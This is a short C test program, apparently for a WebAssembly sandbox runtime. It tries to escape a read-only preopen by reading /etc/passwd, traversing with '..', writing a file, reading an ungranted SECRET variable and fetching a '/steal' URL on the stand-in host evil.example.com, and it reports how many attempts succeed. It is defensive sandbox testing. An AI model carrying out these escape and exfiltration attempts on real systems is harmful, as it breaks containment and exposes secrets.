/* escape: tries to leave its sandbox. Expects a preopen at /data (granted
 * read-only) and tries, in order: an absolute path outside the preopen, a
 * ".." traversal out of it, a write into it, an environment variable it was
 * not granted ($SECRET), and an HTTP fetch to the host given as argv[1]
 * (default "evil.example.com"). Prints one line per attempt and exits with
 * the number of attempts that succeeded (0 = sandbox held). */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "wasmatrix.h"

static int try_open(const char *path, const char *mode) {
    FILE *f = fopen(path, mode);
    if (f) {
        printf("open %s (%s): ALLOWED\n", path, mode);
        fclose(f);
        return 1;
    }
    printf("open %s (%s): denied (%s)\n", path, mode, strerror(errno));
    return 0;
}

int main(int argc, char **argv) {
    int escaped = 0;
    escaped += try_open("/etc/passwd", "r");
    escaped += try_open("/data/../secret.txt", "r");
    escaped += try_open("/data/written.txt", "w");
    const char *secret = getenv("SECRET");
    if (secret) {
        printf("env SECRET: ALLOWED\n");
        escaped++;
    } else {
        printf("env SECRET: denied\n");
    }
    const char *host = argc > 1 ? argv[1] : "evil.example.com";
    char url[256];
    int ulen = snprintf(url, sizeof url, "https://%s/steal", host);
    uint8_t body[64];
    int32_t rc = wmx_http_fetch(url, (size_t)ulen, body, sizeof body);
    if (rc == WMX_EDENIED) {
        printf("http %s: denied\n", host);
    } else {
        printf("http %s: ALLOWED (rc=%d)\n", host, rc);
        escaped++;
    }
    /* A file inside the preopen stays readable: the grant works. */
    FILE *ok = fopen("/data/public.txt", "r");
    printf("open /data/public.txt (r): %s\n", ok ? "ok" : strerror(errno));
    if (ok) fclose(ok);
    return escaped;
}
